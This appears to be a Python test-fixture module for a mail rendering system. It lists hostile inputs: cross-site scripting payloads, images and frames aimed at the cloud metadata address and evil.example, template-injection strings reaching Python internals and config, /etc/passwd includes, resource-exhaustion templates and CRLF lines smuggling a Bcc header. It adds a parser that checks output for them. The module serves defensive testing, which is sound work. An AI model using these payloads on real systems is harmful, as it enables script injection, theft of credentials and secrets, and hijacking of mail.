"""What strangers and merchants try with the texts of messages, by name; used by the tests."""

import re
from collections import Counter
from html.parser import HTMLParser

from messages.render import Rendered
from messages.rich_text import TAGS

FETCHED = "http://169.254.169.254/latest/meta-data"

# What a merchant may write into the text of a mail to make it do more than say something.
BODIES = {
    "a script": "<script>alert(1)</script>",
    "a script within a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "an event handler": '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "an event handler on an unknown tag": "<x onfocus=alert(1) autofocus tabindex=1>x</x>",
    "a link that is a script": '<a href="javascript:alert(1)">x</a>',
    "a script hidden by entities": '<a href="java&#x73;cript&colon;alert(1)">x</a>',
    "a script hidden by a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a script hidden by capitals": '<a href=" \x01JaVaScRiPt:alert(1)">x</a>',
    "a link that is a document": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "an old script": "<a href='vbscript:msgbox(1)'>x</a>",
    "a link to a file": '<a href="file:///etc/passwd">x</a>',
    "a link without a scheme": '<a href="//evil.example/x">x</a>',
    "a link that reports": '<a href="https://a.example/" ping="https://evil.example">x</a>',
    "a style that fetches": "<p style=\"background:url('https://evil.example/x')\">x</p>",
    "a style that computes": '<p style="width:expression(alert(1))">x</p>',
    "a style sheet that imports": "<style>@import url(https://evil.example/x.css);</style>",
    "a style sheet from elsewhere": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a class of ours": '<p class="foot" id="x">x</p>',
    "an image that counts": '<img src="https://evil.example/count.gif" width=1>',
    "an image of our own network": f'<img src="{FETCHED}">',
    "an image in a set": f'<picture><source srcset="{FETCHED}"><img src=x></picture>',
    "a film": f'<video src="{FETCHED}" poster="{FETCHED}"></video>',
    "a sound": f'<audio src="{FETCHED}" autoplay></audio>',
    "another base": '<base href="https://evil.example/">',
    "a page that goes elsewhere": '<meta http-equiv="refresh" content="0;https://evil.example">',
    "a form": '<form action="https://evil.example"><input name="password"></form>',
    "a button that sends": '<button formaction="javascript:alert(1)">x</button>',
    "a drawing with a script": "<svg><script>alert(1)</script><a xlink:href=x>x</a></svg>",
    "a drawing that changes on reading": "<svg></p><style><a id='</style><img src=x onerror=1>'>",
    "a formula that changes on reading": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "a frame": f'<iframe src="{FETCHED}" srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": f'<object data="{FETCHED}"></object><embed src="{FETCHED}">',
    "an end of the table": "</td></tr></table></div></body></html>",
    "a tag that is never closed": "<div><table><tr><td><strong>",
    "an attribute that is never closed": '<a href="https://evil.example/',
    "a comment that is never closed": "x <!-- ",
    "a comment that a program reads": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "a text that is never closed": "<plaintext>",
    "a field that is never closed": "<textarea>",
    "a title that is never closed": "<title>",
    "what only some read": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "a template": "<template><script>alert(1)</script></template>",
    "raw MJML": "<mj-raw><script>alert(1)</script></mj-raw>",
    "a file by MJML": '<mj-include path="/etc/passwd" /><mj-include path="skeleton.mjml" />',
    "a style by MJML": "<mj-style>p { color: red }</mj-style><mj-text>x</mj-text>",
}

# What may stand in a name, a title or a number that somebody else has chosen.
NAMES = {
    "Liquid in a name": "{{ shop.email }}",
    "a Liquid tag in a name": "{% include 'x' %}",
    "an open Liquid tag in a name": "{% comment %}",
    "Jinja in a name": "{{ 7 * 191 }}{{ ''.__class__.__mro__ }}",
    "a Jinja block in a name": "{% block subject %}x{% endblock %}{# y #}",
    "a script in a name": "<script>alert(1)</script>",
    "an image in a name": "<img src=//evil.example onerror=alert(1)>",
    "an end of an attribute in a name": '"><b onmouseover="alert(1)">',
    "an end of the title in a name": "</title></style></script><script>1</script>",
    "a comment in a name": "<!-- --><!--[if mso]>",
    "MJML in a name": "<mj-raw></mj-raw></mj-text>",
    "places in a name": "%(shop)s %(number)s %s %d %",
    "format places in a name": "{0} {shop.__class__} ${7*191}",
    "an entity in a name": "&lt;script&gt;&#x3c;",
}

# A text that tries to reach more than its values.
REACHING = {
    "the class of a value": "{{ shop.__class__ }}",
    "the class of a value, in brackets": '{{ shop["__class__"]["__mro__"] }}',
    "what a method knows": "{{ order.items.first.__init__.__globals__ }}",
    "a method of a text": "{{ shop.name.format }}{{ shop.name.encode }}",
    "the machine's clock": "{{ now }}{{ today }}",
    "the loop's insides": "{% for a in order.items %}{{ forloop.__dict__ }}{{ forloop.it }}"
    "{{ forloop.parentloop._keys }}{% endfor %}",
    "the library": "{{ self }}{{ environment }}{{ context }}{{ template }}{{ globals }}",
    "Flask and Jinja": "{{ config }}{{ request.environ }}{{ cycler.__init__ }}{{ lipsum }}",
}

# A text that is refused: ours stands in, and says why.
REFUSED = {
    "a file, included": "{% include '/etc/passwd' %}",
    "a file, rendered": "{% render 'skeleton' %}",
    "another template, extended": "{% extends 'skeleton' %}{% block x %}{% endblock %}",
    "an import of Jinja's": "{% import 'os' as os %}",
    "a variable that is set": "{% assign a = 'x' %}",
    "a variable that grows": "{% capture a %}x{% endcapture %}",
    "a counter": "{% increment a %}",
    "a table": "{% tablerow a in order.items %}x{% endtablerow %}",
    "a text that is not read": "{% raw %}{{ x }}{% endraw %}",
    "tags without brackets": "{% liquid\necho 'x'\n%}",
    "a range without end": "{% for a in (1..999999999) %}x{% endfor %}",
    "a range, turned round": "{% for a in (1..999999999) reversed %}x{% endfor %}",
    "loops within loops": "{% for a in order.items %}" * 6 + "x" + "{% endfor %}" * 6,
    "nesting without end": "{% if true %}" * 200 + "x" + "{% endif %}" * 200,
    "brackets without end": "{{ a" + "[a" * 60 + "]" * 60 + " }}",
    "a replacement that grows": "{{ 'aaaaaaaaaa'" + " | replace: 'a', 'aaaaaaaaaa'" * 8 + " }}",
    "what makes reading slow": "{{" + " " * 4_000,
    "what makes reading a comment slow": "{% comment %}" + ("{{" + " " * 90) * 40,
    "a source that is too long": "a" * 5_001,
}

# What must not get into a header, nor out of one.
LINES = {
    "a header after CR LF": "x\r\nBcc: spy@evil.example",
    "a header after LF": "x\nBcc: spy@evil.example",
    "a header after CR": "x\rBcc: spy@evil.example",
    "a body after two lines": "x\r\n\r\n<script>alert(1)</script>",
    "a NUL": "x\0Bcc: spy@evil.example",
    "a vertical tab and a form feed": "x\x0b\x0cBcc: spy@evil.example",
    "a line of Unicode": "x\u2028Bcc: spy@evil.example\u2029y",
    "a next line": "x\x85Bcc: spy@evil.example",
    "an address in a name": 'x" <spy@evil.example>, "y',
    "a folded header": "x\r\n Bcc: spy@evil.example",
    "an encoded header": "=?utf-8?q?x=0D=0ABcc:_spy@evil.example?=",
}

FORBIDDEN = re.compile(r"javascript:|vbscript:|data:|file:|evil\.example|169\.254", re.IGNORECASE)


ADDRESSES_IN = {"href", "src", "srcset", "action", "data", "poster", "background", "ping"}
UNSEEN = re.compile(r"[\x00-\x20]")
"""What browsers leave out of an address before they look at its scheme."""


class Shape(HTMLParser):
    """What a mail is made of besides words: tags, attributes, styles and comments."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.handlers: list[str] = []
        self.addresses: list[str] = []
        self.dressed: list[str] = []
        self.unspoken: list[str] = []
        self.words = ""
        self._in = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.tags[tag] += 1
        self._in = tag if tag in {"style", "script", "title"} else self._in
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(name)
            if name in ADDRESSES_IN:
                self.addresses.append(UNSEEN.sub("", value or ""))
            elif name != "rel":
                looks = value if name in {"class", "id", "style"} else ""
                self.dressed.append(f"{tag} {name} {looks}")

    def handle_endtag(self, tag: str) -> None:
        if tag not in TAGS:
            self.tags[f"/{tag}"] += 1
        if tag == self._in:
            self._in = ""

    def handle_data(self, data: str) -> None:
        if self._in in {"style", "script"}:
            self.unspoken.append(data)
        elif not self._in:
            self.words += data

    def handle_comment(self, data: str) -> None:
        self.unspoken.append(data)


def does_no_more_than(innocent: Rendered, attacked: Rendered) -> None:
    """See that a mail is made of what an innocent one is made of, whatever was tried."""
    before, after = Shape(innocent.html), Shape(attacked.html)
    assert after.tags == before.tags
    assert after.handlers == []
    assert after.dressed == before.dressed
    assert after.unspoken == before.unspoken
    new = Counter(after.addresses) - Counter(before.addresses)
    assert [one for one in new if not one.startswith("https://")] == []
    assert [one for one in new if FORBIDDEN.search(one)] == []
    assert set(before.addresses) <= set(after.addresses)
